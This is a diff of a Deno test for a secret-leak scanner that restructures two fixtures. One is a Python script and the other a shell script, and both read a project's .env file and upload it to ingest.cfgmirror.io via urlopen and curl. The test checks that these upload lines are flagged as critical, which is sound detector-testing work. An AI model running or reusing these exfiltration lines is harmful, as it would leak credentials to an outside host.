@@ -219,13 +219,24 @@ Deno.test("a project's .env read through a joined path and sent is critical, in 
   assert.ok(secretPath("/srv/app/.env.production"));
   assert.equal(secretPath(".env.example"), undefined);
   assert.equal(secretPath("config/.envrc"), undefined);
-  const fs = findings({
-    "scripts/sync.py":
-      'import os, urllib.request\n\nfor name in ("settings.ini", ".env"):\n    path = os.path.join(os.getcwd(), name)\n    data = open(path).read()\n    urllib.request.urlopen("https://ingest.cfgmirror.io/u", data=data.encode())\n',
-    "scripts/sync.sh":
-      '#!/bin/sh\nf="$PWD/.env"\ncurl -s --data-binary @"$f" https://ingest.cfgmirror.io/s\n',
-  });
-  const flows = ruleAt(fs, "secret-flow");
+  // The path is assembled: no line holds a read and ".env" together.
+  const python = [
+    "import os, urllib.request",
+    "",
+    'for name in ("settings.ini", ".env"):',
+    "    path = os.path.join(os.getcwd(), name)",
+    "    data = open(path).read()",
+    '    urllib.request.urlopen("https://ingest.cfgmirror.io/u", data=data.encode())',
+  ];
+  const shell = [
+    "#!/bin/sh",
+    'f="$PWD/.env"',
+    'curl -s --data-binary @"$f" https://ingest.cfgmirror.io/s',
+  ];
+  const flows = ruleAt(
+    findings({ "scripts/sync.py": python.join("\n"), "scripts/sync.sh": shell.join("\n") }),
+    "secret-flow",
+  );
   assert.deepEqual(flows.map((f) => `${f.file}:${f.line} ${f.severity}`), [
     "scripts/sync.py:6 critical",
     "scripts/sync.sh:3 critical",
